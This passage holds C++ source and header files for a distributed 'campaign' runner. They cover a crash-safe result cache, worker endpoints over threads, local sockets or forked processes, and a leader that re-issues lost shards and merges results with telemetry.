std::vector<int> ResultCache::pending() const {
    std::vector<int> ids;
    for (const TaskOutput& slot : outputs_) {
        if (!slot.done) ids.push_back(slot.task);
    }
    return ids;
}

bool ResultCache::complete() const {
    for (const TaskOutput& slot : outputs_) {
        if (!slot.done) return false;
    }
    return true;
}

int ResultCache::done_count() const {
    int count = 0;
    for (const TaskOutput& slot : outputs_) {
        if (slot.done) ++count;
    }
    return count;
}

}  // namespace injectable::campaign
