// Result cache: the leader's crash-safe buffer between wire and merger.
//
// Every task's wire traffic is buffered here between TaskStart and TaskDone.
// Only TaskDone commits a task; a stream that dies first (worker crash,
// dropped connection, torn frame) leaves the task pending and its partial
// buffer is discarded by abandon(), so the leader re-issues the task instead
// of silently dropping trials — the invariant the fault-injection tests pin.
//
// The cache is NOT internally synchronized: the leader serializes access
// with its own mutex (one lock around accept() per decoded frame).
#pragma once

#include <string>
#include <vector>

#include "campaign/plan.hpp"
#include "campaign/wire.hpp"

namespace injectable::campaign {

/// Everything one completed task produced.
struct TaskOutput {
    int task = -1;
    std::vector<world::RunResult> results;
    ble::obs::MetricsSnapshot metrics;
    bool have_metrics = false;
    std::vector<world::TrialArtifact> artifacts;
    bool started = false;  ///< TaskStart seen this attempt
    bool done = false;     ///< TaskDone seen — output is committed
};

class ResultCache {
public:
    explicit ResultCache(const CampaignPlan& plan);

    /// Applies one decoded wire message.  Returns false (with *error) on
    /// protocol violations: unknown task ids, results outside a
    /// TaskStart/TaskDone window, wrong trial counts, duplicate completion.
    [[nodiscard]] bool accept(const WireMessage& message, std::string* error = nullptr);

    /// Discards any uncommitted partial state for `task`, returning it to
    /// the pending pool.  Committed (done) tasks are untouched.
    void abandon(int task);

    /// Tasks with no committed output, in id order.
    [[nodiscard]] std::vector<int> pending() const;

    [[nodiscard]] bool complete() const;
    [[nodiscard]] int done_count() const;

    /// Committed output for `task` (valid only once done).
    [[nodiscard]] const TaskOutput& output(int task) const {
        return outputs_[static_cast<std::size_t>(task)];
    }

private:
    std::vector<TaskOutput> outputs_;   // indexed by task id
    std::vector<int> expected_counts_;  // trial count each task must deliver
};

}  // namespace injectable::campaign
