#include "campaign/endpoint.hpp"

#include <cerrno>
#include <csignal>
#include <cstring>
#include <thread>
#include <utility>

#include <sys/wait.h>
#include <unistd.h>

namespace injectable::campaign {

namespace {

class InprocessEndpoint final : public Endpoint {
public:
    explicit InprocessEndpoint(WorkerOptions options) : options_(options) {}

    ~InprocessEndpoint() override {
        if (thread_.joinable()) thread_.join();
    }

    ByteStream* start(const CampaignPlan& plan, std::vector<int> task_ids,
                      std::string* error) override {
        (void)error;
        ConduitPair pair = make_conduit_pair();
        leader_ = std::move(pair.leader);
        // The worker thread owns its end; plan/tasks are copied in because
        // the leader's plan outlives the round but the ids vector may not.
        thread_ = std::thread(
            [this, &plan, worker_stream = std::shared_ptr<ByteStream>(std::move(pair.worker)),
             ids = std::move(task_ids)] {
                ok_ = run_worker_tasks(plan, ids, *worker_stream, options_, &worker_error_);
            });
        return leader_.get();
    }

    bool finish(std::string* error) override {
        if (thread_.joinable()) thread_.join();
        if (!ok_ && error != nullptr) *error = worker_error_;
        return ok_;
    }

    std::string describe() const override {
        return "inprocess worker " + std::to_string(options_.worker_id);
    }

private:
    WorkerOptions options_;
    std::unique_ptr<ByteStream> leader_;
    std::thread thread_;
    bool ok_ = false;
    std::string worker_error_;
};

class SocketEndpoint final : public Endpoint {
public:
    SocketEndpoint(SocketKind kind, std::string uds_dir, WorkerOptions options)
        : kind_(kind), uds_dir_(std::move(uds_dir)), options_(options) {}

    ~SocketEndpoint() override {
        if (thread_.joinable()) thread_.join();
        if (listen_fd_ >= 0) ::close(listen_fd_);
        if (!uds_path_.empty()) ::unlink(uds_path_.c_str());
    }

    ByteStream* start(const CampaignPlan& plan, std::vector<int> task_ids,
                      std::string* error) override {
        int port = 0;
        if (kind_ == SocketKind::kUds) {
            uds_path_ = uds_dir_ + "/campaign-w" + std::to_string(options_.worker_id) + ".sock";
            listen_fd_ = listen_uds(uds_path_, error);
        } else {
            listen_fd_ = listen_tcp_loopback(&port, error);
        }
        if (listen_fd_ < 0) return nullptr;

        thread_ = std::thread([this, &plan, ids = std::move(task_ids), port] {
            std::string connect_error;
            const int fd = kind_ == SocketKind::kUds
                               ? connect_uds(uds_path_, &connect_error)
                               : connect_tcp_loopback(port, &connect_error);
            if (fd < 0) {
                ok_ = false;
                worker_error_ = connect_error;
                return;
            }
            FdStream worker_stream(fd);
            ok_ = run_worker_tasks(plan, ids, worker_stream, options_, &worker_error_);
        });

        const int conn = accept_connection(listen_fd_, /*timeout_ms=*/10000, error);
        if (conn < 0) {
            interrupt();
            return nullptr;
        }
        leader_ = std::make_unique<FdStream>(conn);
        return leader_.get();
    }

    void interrupt() override {
        // Dropping the leader-side fd makes the worker's next write fail and
        // its run_worker_tasks return; finish() then reports the error.
        leader_.reset();
    }

    bool finish(std::string* error) override {
        if (thread_.joinable()) thread_.join();
        if (!ok_ && error != nullptr) *error = worker_error_;
        return ok_;
    }

    std::string describe() const override {
        return std::string(kind_ == SocketKind::kUds ? "uds" : "tcp") + " worker " +
               std::to_string(options_.worker_id);
    }

private:
    SocketKind kind_;
    std::string uds_dir_;
    WorkerOptions options_;
    std::string uds_path_;
    int listen_fd_ = -1;
    std::unique_ptr<ByteStream> leader_;
    std::thread thread_;
    bool ok_ = false;
    std::string worker_error_;
};

class SpawnEndpoint final : public Endpoint {
public:
    explicit SpawnEndpoint(SpawnOptions options) : options_(std::move(options)) {}

    ~SpawnEndpoint() override {
        interrupt();
        if (pid_ > 0) ::waitpid(pid_, nullptr, 0);
    }

    ByteStream* start(const CampaignPlan& plan, std::vector<int> task_ids,
                      std::string* error) override {
        (void)plan;  // the child re-reads the plan from options_.plan_path
        auto fail = [&](const std::string& message) -> ByteStream* {
            if (error != nullptr) *error = message;
            return nullptr;
        };
        std::string tasks_csv;
        for (const int id : task_ids) {
            if (!tasks_csv.empty()) tasks_csv += ',';
            tasks_csv += std::to_string(id);
        }
        int fds[2];
        if (::pipe(fds) != 0) return fail(std::string("pipe: ") + std::strerror(errno));

        const pid_t pid = ::fork();
        if (pid < 0) {
            ::close(fds[0]);
            ::close(fds[1]);
            return fail(std::string("fork: ") + std::strerror(errno));
        }
        if (pid == 0) {
            ::dup2(fds[1], STDOUT_FILENO);
            ::close(fds[0]);
            ::close(fds[1]);
            const std::string worker_id = std::to_string(options_.worker.worker_id);
            const std::string jobs = std::to_string(options_.worker.jobs);
            const std::string crash = std::to_string(options_.worker.crash_after_trials);
            const std::string heartbeat = std::to_string(options_.worker.heartbeat_ms);
            const char* argv[] = {options_.binary.c_str(),
                                  "worker",
                                  "--plan",
                                  options_.plan_path.c_str(),
                                  "--tasks",
                                  tasks_csv.c_str(),
                                  "--worker",
                                  worker_id.c_str(),
                                  "--jobs",
                                  jobs.c_str(),
                                  "--crash-after-trials",
                                  crash.c_str(),
                                  "--heartbeat-ms",
                                  heartbeat.c_str(),
                                  nullptr};
            ::execv(options_.binary.c_str(), const_cast<char* const*>(argv));
            _exit(127);
        }
        pid_ = pid;
        ::close(fds[1]);
        leader_ = std::make_unique<FdStream>(fds[0]);
        return leader_.get();
    }

    void interrupt() override {
        if (pid_ > 0) ::kill(pid_, SIGKILL);
    }

    bool finish(std::string* error) override {
        if (pid_ <= 0) {
            if (error != nullptr) *error = "worker was never spawned";
            return false;
        }
        int status = 0;
        while (::waitpid(pid_, &status, 0) < 0) {
            if (errno != EINTR) {
                if (error != nullptr) *error = std::string("waitpid: ") + std::strerror(errno);
                pid_ = -1;
                return false;
            }
        }
        pid_ = -1;
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return true;
        if (error != nullptr) {
            if (WIFSIGNALED(status)) {
                *error = "worker killed by signal " + std::to_string(WTERMSIG(status));
            } else {
                *error = "worker exited with status " + std::to_string(WEXITSTATUS(status));
            }
        }
        return false;
    }

    std::string describe() const override {
        return "spawned worker " + std::to_string(options_.worker.worker_id);
    }

private:
    SpawnOptions options_;
    pid_t pid_ = -1;
    std::unique_ptr<ByteStream> leader_;
};

}  // namespace

std::unique_ptr<Endpoint> make_inprocess_endpoint(WorkerOptions options) {
    return std::make_unique<InprocessEndpoint>(options);
}

std::unique_ptr<Endpoint> make_socket_endpoint(SocketKind kind, std::string uds_dir,
                                               WorkerOptions options) {
    return std::make_unique<SocketEndpoint>(kind, std::move(uds_dir), options);
}

std::unique_ptr<Endpoint> make_spawn_endpoint(SpawnOptions options) {
    return std::make_unique<SpawnEndpoint>(std::move(options));
}

}  // namespace injectable::campaign
