// Endpoint: one launched worker behind one leader-side byte stream.
//
// The leader never cares how a worker runs — thread, socket peer, spawned
// process — only that start() yields a readable stream of result frames and
// finish() reports whether the worker ended cleanly.  Three stock transports:
//
//  * in-process — worker runs on a std::thread over a conduit pair; zero
//    syscalls, the reference transport for tests;
//  * socket     — leader listens (UDS path or loopback TCP), worker thread
//    connects and streams over the socket; exercises real fd framing;
//  * spawn      — fork/exec `campaign_ctl worker`, frames arrive on the
//    child's stdout pipe; the only transport that survives (and so can
//    fault-inject) a worker process death.
//
// An EndpointFactory lets the leader mint a fresh endpoint per worker per
// round, which is how re-issued tasks land on new workers.
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "campaign/plan.hpp"
#include "campaign/transport.hpp"
#include "campaign/worker.hpp"

namespace injectable::campaign {

class Endpoint {
public:
    virtual ~Endpoint() = default;

    /// Launches the worker on `task_ids`.  Returns the leader-side stream
    /// (owned by the endpoint, valid until destruction) or nullptr + *error.
    [[nodiscard]] virtual ByteStream* start(const CampaignPlan& plan,
                                            std::vector<int> task_ids,
                                            std::string* error) = 0;

    /// Best-effort hard stop (kill the process / drop the connection) for a
    /// worker the leader has given up on.  Safe to call at any point.
    virtual void interrupt() {}

    /// Reaps the worker after the stream is drained.  False (with *error)
    /// when the worker failed: nonzero exit, signal, worker-side error.
    [[nodiscard]] virtual bool finish(std::string* error) = 0;

    [[nodiscard]] virtual std::string describe() const = 0;
};

/// Mints the endpoint for worker slot `worker` in re-issue round `round`.
using EndpointFactory = std::function<std::unique_ptr<Endpoint>(int worker, int round)>;

[[nodiscard]] std::unique_ptr<Endpoint> make_inprocess_endpoint(WorkerOptions options = {});

enum class SocketKind { kUds, kTcp };

/// Socket transport: leader listens, an in-process worker thread connects
/// back and streams over the socket.  `uds_dir` holds per-worker socket
/// files for kUds and is unused for kTcp (loopback, ephemeral port).
[[nodiscard]] std::unique_ptr<Endpoint> make_socket_endpoint(SocketKind kind,
                                                             std::string uds_dir,
                                                             WorkerOptions options = {});

struct SpawnOptions {
    std::string binary;     ///< campaign_ctl executable path
    std::string plan_path;  ///< plan JSON on disk (the child re-reads it)
    WorkerOptions worker;   ///< worker_id / jobs / crash_after_trials / heartbeat_ms
};

/// fork/exec `binary worker --plan ... --tasks ...`; frames on child stdout.
[[nodiscard]] std::unique_ptr<Endpoint> make_spawn_endpoint(SpawnOptions options);

}  // namespace injectable::campaign
