#include "campaign/leader.hpp"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <condition_variable>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>

#include "campaign/cache.hpp"
#include "campaign/wire.hpp"
#include "common/framing.hpp"
#include "common/time.hpp"
#include "obs/metrics.hpp"
#include "obs/sinks.hpp"

namespace injectable::campaign {

namespace {

/// How a drained stream ended (feeds telemetry stream/torn/timeout counters).
struct DrainFlags {
    bool torn = false;     ///< mid-frame EOF, decoder error, or bad frame
    bool timeout = false;  ///< worker silent past the read timeout
};

/// Drains one endpoint stream into the cache.  Returns true on an orderly
/// end (EOF with no torn frame); any other exit leaves uncommitted tasks to
/// be abandoned by the caller.  `worker`/`round` tag telemetry events;
/// `on_task_progress(task, done)` fires per Progress frame (campaign-wide
/// progress aggregation).
bool drain_stream(ByteStream& stream, int read_timeout_ms, ResultCache& cache,
                  std::mutex& cache_mutex, int worker, int round,
                  ble::obs::CampaignTelemetrySink* telemetry,
                  const std::function<void(int, int)>& on_task_progress,
                  DrainFlags& flags, std::string* error) {
    ble::common::FrameDecoder decoder;
    std::string chunk;
    for (;;) {
        chunk.clear();
        const ReadStatus status = stream.read_some(chunk, read_timeout_ms);
        if (status == ReadStatus::kTimeout) {
            flags.timeout = true;
            *error = "worker silent past " + std::to_string(read_timeout_ms) + " ms";
            return false;
        }
        if (status == ReadStatus::kError) {
            *error = "transport read error";
            return false;
        }
        if (status == ReadStatus::kData) decoder.feed(chunk);
        std::uint64_t frames_in_chunk = 0;
        for (;;) {
            const std::optional<ble::common::Frame> frame = decoder.next();
            if (!frame.has_value()) break;
            ++frames_in_chunk;
            WireMessage message;
            std::string decode_error;
            if (!decode_wire_message(*frame, message, &decode_error)) {
                flags.torn = true;
                *error = "bad frame: " + decode_error;
                return false;
            }
            if (telemetry != nullptr) {
                const std::int64_t now = ble::telemetry_now_ms();
                // Only lifecycle frames feed telemetry spans; result/error
                // frames are handled by the cache.accept() path below, which
                // lint does hold to exhaustiveness.
                // injectable-lint: allow(W1) -- deliberate subset: lifecycle frames only, the rest is cache.accept()'s exhaustive switch
                switch (message.type) {
                    case WireType::kTaskStart:
                        telemetry->shard_accepted(message.task, worker, round, now);
                        break;
                    case WireType::kProgress:
                        telemetry->shard_running(message.task, worker, round, now);
                        break;
                    case WireType::kTelemetry:
                        telemetry->worker_heartbeat(message.telemetry, now);
                        break;
                    case WireType::kTaskDone:
                        telemetry->shard_done(message.task, worker, round, now);
                        break;
                    default: break;
                }
            }
            if (message.type == WireType::kProgress && on_task_progress) {
                on_task_progress(message.task, message.done);
            } else if (message.type == WireType::kTaskDone && on_task_progress) {
                on_task_progress(message.task, -1);  // -1 = task committed in full
            }
            const std::lock_guard lock(cache_mutex);
            std::string accept_error;
            if (!cache.accept(message, &accept_error)) {
                *error = accept_error;
                return false;
            }
        }
        if (telemetry != nullptr && (status == ReadStatus::kData || frames_in_chunk > 0)) {
            telemetry->transport_read(worker, chunk.size(), frames_in_chunk);
        }
        if (!decoder.error().empty()) {
            flags.torn = true;
            *error = "frame decode: " + decoder.error();
            return false;
        }
        if (status == ReadStatus::kEof) {
            if (decoder.mid_frame()) {
                flags.torn = true;
                *error = "stream ended mid-frame";
                return false;
            }
            return true;
        }
    }
}

void emit_status(const CampaignPlan& plan, const LeaderOptions& options, int round,
                 int tasks_done, const std::vector<int>& pending,
                 ble::obs::CampaignTelemetrySink* telemetry) {
    if (options.status_path.empty() && !options.on_status) return;
    std::string status = campaign_status_json(plan, round, tasks_done, pending);
    if (telemetry != nullptr) {
        status.insert(status.size() - 1,
                      telemetry->status_fields_json(ble::telemetry_now_ms()));
    }
    if (!options.status_path.empty()) {
        ble::obs::write_text_file(options.status_path, status + "\n");
    }
    if (options.on_status) options.on_status(status);
}

}  // namespace

std::string campaign_status_json(const CampaignPlan& plan, int round, int tasks_done,
                                 const std::vector<int>& pending) {
    std::string out = "{\"campaign\":\"";
    ble::obs::append_json_escaped(out, plan.name);
    out += "\",\"round\":" + std::to_string(round);
    out += ",\"tasks_total\":" + std::to_string(plan.tasks.size());
    out += ",\"tasks_done\":" + std::to_string(tasks_done);
    out += ",\"trials_total\":" + std::to_string(plan.total_trials());
    out += ",\"pending\":[";
    for (std::size_t i = 0; i < pending.size(); ++i) {
        if (i != 0) out += ',';
        out += std::to_string(pending[i]);
    }
    out += "]}";
    return out;
}

CampaignOutcome run_campaign(const CampaignPlan& plan, const EndpointFactory& factory,
                             const LeaderOptions& options, world::ResultSink& sink) {
    CampaignOutcome outcome;
    ResultCache cache(plan);
    std::mutex cache_mutex;
    std::string last_error;

    // Telemetry: use the caller's sink, or own one when a log path is given.
    std::unique_ptr<ble::obs::CampaignTelemetrySink> owned_telemetry;
    ble::obs::CampaignTelemetrySink* telemetry = options.telemetry;
    if (telemetry == nullptr && !options.telemetry_path.empty()) {
        ble::obs::TelemetrySinkParams params;
        params.campaign = plan.name;
        params.jsonl_path = options.telemetry_path;
        params.total_trials = plan.total_trials();
        params.straggler_factor = options.straggler_factor;
        owned_telemetry = std::make_unique<ble::obs::CampaignTelemetrySink>(params);
        telemetry = owned_telemetry.get();
    }

    // Campaign-wide progress aggregation (the INJECTABLE_PROGRESS fix): the
    // per-task Progress frames from every worker fold into one leader-side
    // trials-done line on the edge sink.  The sink is not assumed
    // thread-safe, so the fold and the callback share one mutex.
    const bool edge_progress = sink.channels().progress;
    std::mutex progress_mutex;
    std::vector<int> task_done(plan.tasks.size(), 0);
    const int trials_total = plan.total_trials();
    auto on_task_progress = [&](int task, int done) {
        if (!edge_progress) return;
        if (task < 0 || task >= static_cast<int>(task_done.size())) return;
        const int task_trials = plan.tasks[static_cast<std::size_t>(task)].count;
        const std::lock_guard lock(progress_mutex);
        const int value = done < 0 ? task_trials : std::min(done, task_trials);
        task_done[static_cast<std::size_t>(task)] =
            std::max(task_done[static_cast<std::size_t>(task)], value);
        int total_done = 0;
        for (const int d : task_done) total_done += d;
        sink.on_progress(plan.name, total_done, trials_total);
    };

    // Live status + straggler watchdog: while a round is in flight, refresh
    // the status document and run the watchdog every status_refresh_ms.
    std::atomic<int> current_round{0};
    std::atomic<bool> stop_watch{false};
    std::mutex watch_mutex;
    std::condition_variable watch_cv;
    std::thread watch_thread;
    if (telemetry != nullptr && options.status_refresh_ms > 0) {
        watch_thread = std::thread([&] {
            std::unique_lock lock(watch_mutex);
            while (!stop_watch.load()) {
                watch_cv.wait_for(lock, std::chrono::milliseconds(options.status_refresh_ms),
                                  [&] { return stop_watch.load(); });
                if (stop_watch.load()) break;
                telemetry->check_stragglers(ble::telemetry_now_ms());
                int done = 0;
                std::vector<int> now_pending;
                {
                    const std::lock_guard cache_lock(cache_mutex);
                    done = cache.done_count();
                    now_pending = cache.pending();
                }
                emit_status(plan, options, current_round.load(), done, now_pending,
                            telemetry);
            }
        });
    }

    const int worker_slots = std::max(1, options.workers);
    for (int round = 0; round < std::max(1, options.max_rounds); ++round) {
        const std::vector<int> pending = cache.pending();
        if (pending.empty()) break;
        current_round.store(round);
        outcome.rounds = round + 1;
        if (round > 0) outcome.reissued_tasks += static_cast<int>(pending.size());

        // Round-robin assignment over however many slots have work.
        const int active = std::min<int>(worker_slots, static_cast<int>(pending.size()));
        std::vector<std::vector<int>> assignment(static_cast<std::size_t>(active));
        for (std::size_t i = 0; i < pending.size(); ++i) {
            assignment[i % static_cast<std::size_t>(active)].push_back(pending[i]);
        }

        struct Slot {
            int id = 0;
            std::unique_ptr<Endpoint> endpoint;
            std::vector<int> tasks;
            std::thread reader;
            bool drained_ok = false;
            DrainFlags flags;
            std::string error;
        };
        std::vector<Slot> slots(static_cast<std::size_t>(active));
        for (int w = 0; w < active; ++w) {
            Slot& slot = slots[static_cast<std::size_t>(w)];
            slot.id = w;
            slot.tasks = assignment[static_cast<std::size_t>(w)];
            if (telemetry != nullptr) {
                const std::int64_t now = ble::telemetry_now_ms();
                for (const int task : slot.tasks) {
                    const ShardTask& t = plan.tasks[static_cast<std::size_t>(task)];
                    telemetry->shard_issued(task, t.series, t.count, w, round, now,
                                            round > 0);
                }
            }
            slot.endpoint = factory(w, round);
            if (!slot.endpoint) {
                slot.error = "endpoint factory returned null";
                continue;
            }
            ByteStream* stream = slot.endpoint->start(plan, slot.tasks, &slot.error);
            if (stream == nullptr) continue;
            slot.reader = std::thread([stream, &slot, &cache, &cache_mutex, &options,
                                       telemetry, round, &on_task_progress] {
                slot.drained_ok = drain_stream(*stream, options.read_timeout_ms, cache,
                                               cache_mutex, slot.id, round, telemetry,
                                               on_task_progress, slot.flags, &slot.error);
            });
        }

        for (Slot& slot : slots) {
            if (slot.reader.joinable()) slot.reader.join();
            if (!slot.endpoint) continue;
            if (!slot.drained_ok) slot.endpoint->interrupt();
            std::string finish_error;
            const bool finished_ok = slot.endpoint->finish(&finish_error);
            if (telemetry != nullptr) {
                telemetry->stream_closed(slot.id, round, slot.drained_ok && finished_ok,
                                         slot.flags.torn, slot.flags.timeout);
            }
            if (!slot.drained_ok || !finished_ok) {
                std::string why = slot.error;
                if (!finished_ok && !finish_error.empty()) {
                    if (!why.empty()) why += "; ";
                    why += finish_error;
                }
                last_error = slot.endpoint->describe() + ": " + why;
                const std::lock_guard lock(cache_mutex);
                for (const int task : slot.tasks) cache.abandon(task);
                if (telemetry != nullptr) {
                    const std::int64_t now = ble::telemetry_now_ms();
                    for (const int task : slot.tasks) {
                        if (cache.output(task).done) continue;
                        telemetry->shard_lost(task, slot.id, round, now, why);
                        // Lost progress is re-earned by the re-issued attempt.
                        const std::lock_guard progress_lock(progress_mutex);
                        task_done[static_cast<std::size_t>(task)] = 0;
                    }
                }
            }
        }

        emit_status(plan, options, round, cache.done_count(), cache.pending(), telemetry);
    }

    if (watch_thread.joinable()) {
        {
            const std::lock_guard lock(watch_mutex);
            stop_watch.store(true);
        }
        watch_cv.notify_all();
        watch_thread.join();
    }
    if (telemetry != nullptr) {
        telemetry->check_stragglers(ble::telemetry_now_ms());
        outcome.stragglers = telemetry->straggler_count();
    }

    if (!cache.complete()) {
        outcome.error = "campaign incomplete after " + std::to_string(outcome.rounds) +
                        " round(s); " + std::to_string(cache.pending().size()) +
                        " task(s) unfinished";
        if (!last_error.empty()) outcome.error += " (last failure: " + last_error + ")";
        if (telemetry != nullptr) telemetry->close(ble::telemetry_now_ms());
        return outcome;
    }

    merge_into_sink(plan, cache, sink);
    emit_status(plan, options, outcome.rounds, cache.done_count(), {}, telemetry);
    if (telemetry != nullptr) telemetry->close(ble::telemetry_now_ms());
    outcome.ok = true;
    return outcome;
}

void merge_into_sink(const CampaignPlan& plan, const ResultCache& cache,
                     world::ResultSink& sink) {
    // Merge: per series, concatenate committed task slices in trial-index
    // order.  The plan's tiling is contiguous and series_tasks() sorts by
    // slice start, so this is exactly the order a single process produces;
    // metrics partials merge in the same order (MetricsSnapshot::merge over
    // ordered partials == sequential per-trial merge).
    const world::ResultChannels& edge = sink.channels();
    for (std::size_t s = 0; s < plan.series.size(); ++s) {
        const world::ExperimentConfig& config = plan.series[s];
        std::vector<world::RunResult> merged;
        merged.reserve(static_cast<std::size_t>(std::max(0, config.runs)));
        ble::obs::MetricsSnapshot metrics;
        bool have_metrics = false;
        for (const int task_id : plan.series_tasks(static_cast<int>(s))) {
            const TaskOutput& output = cache.output(task_id);
            merged.insert(merged.end(), output.results.begin(), output.results.end());
            if (output.have_metrics) {
                metrics.merge(output.metrics);
                have_metrics = true;
            }
            for (const world::TrialArtifact& artifact : output.artifacts) {
                sink.on_artifact(artifact);
            }
        }
        if (edge.series_record) {
            sink.on_series_record(config, world::SeriesSlice{0, config.runs}, merged,
                                  (edge.metrics && have_metrics) ? &metrics : nullptr);
        }
        if (edge.progress) {
            sink.on_progress(config.name, static_cast<int>(merged.size()),
                             static_cast<int>(merged.size()));
        }
    }
}

}  // namespace injectable::campaign
