#include "campaign/leader.hpp"

#include <algorithm>
#include <mutex>
#include <thread>

#include "campaign/cache.hpp"
#include "campaign/wire.hpp"
#include "common/framing.hpp"
#include "obs/metrics.hpp"
#include "obs/sinks.hpp"

namespace injectable::campaign {

namespace {

/// Drains one endpoint stream into the cache.  Returns true on an orderly
/// end (EOF with no torn frame); any other exit leaves uncommitted tasks to
/// be abandoned by the caller.
bool drain_stream(ByteStream& stream, int read_timeout_ms, ResultCache& cache,
                  std::mutex& cache_mutex, std::string* error) {
    ble::common::FrameDecoder decoder;
    std::string chunk;
    for (;;) {
        chunk.clear();
        const ReadStatus status = stream.read_some(chunk, read_timeout_ms);
        if (status == ReadStatus::kTimeout) {
            *error = "worker silent past " + std::to_string(read_timeout_ms) + " ms";
            return false;
        }
        if (status == ReadStatus::kError) {
            *error = "transport read error";
            return false;
        }
        if (status == ReadStatus::kData) decoder.feed(chunk);
        for (;;) {
            const std::optional<ble::common::Frame> frame = decoder.next();
            if (!frame.has_value()) break;
            WireMessage message;
            std::string decode_error;
            if (!decode_wire_message(*frame, message, &decode_error)) {
                *error = "bad frame: " + decode_error;
                return false;
            }
            const std::lock_guard lock(cache_mutex);
            std::string accept_error;
            if (!cache.accept(message, &accept_error)) {
                *error = accept_error;
                return false;
            }
        }
        if (!decoder.error().empty()) {
            *error = "frame decode: " + decoder.error();
            return false;
        }
        if (status == ReadStatus::kEof) {
            if (decoder.mid_frame()) {
                *error = "stream ended mid-frame";
                return false;
            }
            return true;
        }
    }
}

void emit_status(const CampaignPlan& plan, const LeaderOptions& options, int round,
                 int tasks_done, const std::vector<int>& pending) {
    if (options.status_path.empty() && !options.on_status) return;
    const std::string status = campaign_status_json(plan, round, tasks_done, pending);
    if (!options.status_path.empty()) {
        ble::obs::write_text_file(options.status_path, status + "\n");
    }
    if (options.on_status) options.on_status(status);
}

}  // namespace

std::string campaign_status_json(const CampaignPlan& plan, int round, int tasks_done,
                                 const std::vector<int>& pending) {
    std::string out = "{\"campaign\":\"";
    ble::obs::append_json_escaped(out, plan.name);
    out += "\",\"round\":" + std::to_string(round);
    out += ",\"tasks_total\":" + std::to_string(plan.tasks.size());
    out += ",\"tasks_done\":" + std::to_string(tasks_done);
    out += ",\"trials_total\":" + std::to_string(plan.total_trials());
    out += ",\"pending\":[";
    for (std::size_t i = 0; i < pending.size(); ++i) {
        if (i != 0) out += ',';
        out += std::to_string(pending[i]);
    }
    out += "]}";
    return out;
}

CampaignOutcome run_campaign(const CampaignPlan& plan, const EndpointFactory& factory,
                             const LeaderOptions& options, world::ResultSink& sink) {
    CampaignOutcome outcome;
    ResultCache cache(plan);
    std::mutex cache_mutex;
    std::string last_error;

    const int worker_slots = std::max(1, options.workers);
    for (int round = 0; round < std::max(1, options.max_rounds); ++round) {
        const std::vector<int> pending = cache.pending();
        if (pending.empty()) break;
        outcome.rounds = round + 1;
        if (round > 0) outcome.reissued_tasks += static_cast<int>(pending.size());

        // Round-robin assignment over however many slots have work.
        const int active = std::min<int>(worker_slots, static_cast<int>(pending.size()));
        std::vector<std::vector<int>> assignment(static_cast<std::size_t>(active));
        for (std::size_t i = 0; i < pending.size(); ++i) {
            assignment[i % static_cast<std::size_t>(active)].push_back(pending[i]);
        }

        struct Slot {
            std::unique_ptr<Endpoint> endpoint;
            std::vector<int> tasks;
            std::thread reader;
            bool drained_ok = false;
            std::string error;
        };
        std::vector<Slot> slots(static_cast<std::size_t>(active));
        for (int w = 0; w < active; ++w) {
            Slot& slot = slots[static_cast<std::size_t>(w)];
            slot.tasks = assignment[static_cast<std::size_t>(w)];
            slot.endpoint = factory(w, round);
            if (!slot.endpoint) {
                slot.error = "endpoint factory returned null";
                continue;
            }
            ByteStream* stream = slot.endpoint->start(plan, slot.tasks, &slot.error);
            if (stream == nullptr) continue;
            slot.reader = std::thread([stream, &slot, &cache, &cache_mutex, &options] {
                slot.drained_ok = drain_stream(*stream, options.read_timeout_ms, cache,
                                               cache_mutex, &slot.error);
            });
        }

        for (Slot& slot : slots) {
            if (slot.reader.joinable()) slot.reader.join();
            if (!slot.endpoint) continue;
            if (!slot.drained_ok) slot.endpoint->interrupt();
            std::string finish_error;
            const bool finished_ok = slot.endpoint->finish(&finish_error);
            if (!slot.drained_ok || !finished_ok) {
                std::string why = slot.error;
                if (!finished_ok && !finish_error.empty()) {
                    if (!why.empty()) why += "; ";
                    why += finish_error;
                }
                last_error = slot.endpoint->describe() + ": " + why;
                const std::lock_guard lock(cache_mutex);
                for (const int task : slot.tasks) cache.abandon(task);
            }
        }

        emit_status(plan, options, round, cache.done_count(), cache.pending());
    }

    if (!cache.complete()) {
        outcome.error = "campaign incomplete after " + std::to_string(outcome.rounds) +
                        " round(s); " + std::to_string(cache.pending().size()) +
                        " task(s) unfinished";
        if (!last_error.empty()) outcome.error += " (last failure: " + last_error + ")";
        return outcome;
    }

    merge_into_sink(plan, cache, sink);
    emit_status(plan, options, outcome.rounds, cache.done_count(), {});
    outcome.ok = true;
    return outcome;
}

void merge_into_sink(const CampaignPlan& plan, const ResultCache& cache,
                     world::ResultSink& sink) {
    // Merge: per series, concatenate committed task slices in trial-index
    // order.  The plan's tiling is contiguous and series_tasks() sorts by
    // slice start, so this is exactly the order a single process produces;
    // metrics partials merge in the same order (MetricsSnapshot::merge over
    // ordered partials == sequential per-trial merge).
    const world::ResultChannels& edge = sink.channels();
    for (std::size_t s = 0; s < plan.series.size(); ++s) {
        const world::ExperimentConfig& config = plan.series[s];
        std::vector<world::RunResult> merged;
        merged.reserve(static_cast<std::size_t>(std::max(0, config.runs)));
        ble::obs::MetricsSnapshot metrics;
        bool have_metrics = false;
        for (const int task_id : plan.series_tasks(static_cast<int>(s))) {
            const TaskOutput& output = cache.output(task_id);
            merged.insert(merged.end(), output.results.begin(), output.results.end());
            if (output.have_metrics) {
                metrics.merge(output.metrics);
                have_metrics = true;
            }
            for (const world::TrialArtifact& artifact : output.artifacts) {
                sink.on_artifact(artifact);
            }
        }
        if (edge.series_record) {
            sink.on_series_record(config, world::SeriesSlice{0, config.runs}, merged,
                                  (edge.metrics && have_metrics) ? &metrics : nullptr);
        }
        if (edge.progress) {
            sink.on_progress(config.name, static_cast<int>(merged.size()),
                             static_cast<int>(merged.size()));
        }
    }
}

}  // namespace injectable::campaign
