// Campaign leader: issue shards, cache results, re-issue losses, merge.
//
// The leader owns the only durable result state (the ResultCache).  Each
// round it assigns every still-pending task round-robin across fresh
// endpoints from the factory, drains their streams on reader threads, and
// commits only tasks whose TaskDone arrived.  A worker that crashes, hangs,
// or tears a frame loses its uncommitted tasks back to the pending pool for
// the next round — a shard is *never* silently dropped; exhausting
// max_rounds is an explicit error.
//
// Once complete, the merger recombines shard outputs per series in
// trial-index order (plan tiling is contiguous and ordered) and replays them
// into the edge ResultSink, producing records, metrics and artifacts
